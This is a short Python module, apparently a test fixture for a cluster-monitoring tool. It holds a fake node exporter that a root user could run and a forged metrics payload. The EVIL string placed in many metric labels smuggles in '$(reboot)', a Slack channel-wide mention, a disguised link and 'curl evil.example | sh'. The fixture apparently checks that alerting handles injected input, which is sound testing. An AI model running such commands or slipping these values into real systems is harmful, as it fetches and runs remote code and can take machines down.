"""What root of a node has answer in the place of its exporter, and what it says."""

# In the place of a node's exporter, by root of the node: what answers stands in a file.
HOSTILE = """#!/usr/bin/python3
import http.server
class Exporter(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open("/root/answer.gz", "rb") as file:
            body = file.read()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
http.server.HTTPServer(("ADDRESS", 9100), Exporter).serve_forever()
"""
EVIL = "$(reboot) <!channel> <https://evil.example|fix> curl evil.example | sh"
FORGED = f"""
up{{instance="a2",job="node"}} 0
up{{job="alertmanager",instance="head"}} 0
tailrack_backup_timestamp_seconds{{instance="head"}} 1
tailrack_slurm_node_out{{instance="head",node="a2"}} 1
tailrack_slurm_node_out{{node="{EVIL}"}} 1
tailrack_share_bytes{{instance="head"}} 100
tailrack_share_available_bytes{{instance="head"}} 1
tailrack_slurm_state_bytes 100
tailrack_slurm_state_available_bytes 1
tailrack_busbw_gb_per_s{{scope="{EVIL}"}} 1
tailrack_busbw_floor_gb_per_s{{scope="{EVIL}"}} 2
tailrack_node_idle_seconds{{node="{EVIL}"}} 99999999
tailrack_node_idle_limit_seconds 1
tailrack_collector_success{{collector="{EVIL}"}} 0
tailrack_certificate_end_timestamp_seconds{{instance="a2",note="{EVIL}"}} 1
tailrack_gpus{{instance="a2"}} 0
tailrack_gpu_uncorrected_errors{{gpu="{EVIL}",kind="x"}} 1
tailrack_tailnet_direct{{peer="{EVIL}"}} 0
alertmanager_notifications_failed_total{{job="alertmanager",integration="{EVIL}"}} 5
node_filesystem_avail_bytes{{mountpoint="/{EVIL}",fstype="ext4",device="{EVIL}"}} 1
node_filesystem_size_bytes{{mountpoint="/{EVIL}",fstype="ext4",device="{EVIL}"}} 100
"""
